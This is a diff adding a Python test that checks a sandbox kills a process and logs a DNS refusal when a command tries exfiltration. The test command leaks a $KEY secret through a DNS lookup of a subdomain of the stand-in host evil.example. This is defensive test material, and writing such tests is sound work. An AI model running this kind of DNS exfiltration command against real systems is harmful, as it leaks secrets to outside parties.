@@ -146,6 +146,14 @@ def test_what_no_rule_allows_kills_too(online):
     assert [e["by"] for e in online.events(type="cell", did="killed")] == ["exfiltration"]
 
 
+def test_a_name_kills_too(online):
+    """No request was made: it was only asked for where the name leads."""
+    cell = start(online, "kill", "getent ahostsv4 $KEY.evil.example; exec sleep infinity")
+    assert online.operator.cloister("wait", cell).status == 137
+    assert [e["by"] for e in online.events(type="cell", did="killed")] == ["exfiltration"]
+    assert online.refusal(type="dns")["why"] == "exfiltration"
+
+
 @only_root
 def test_it_freezes(online):
     start(online, "freeze", f"while :; do {LEAK}; done")
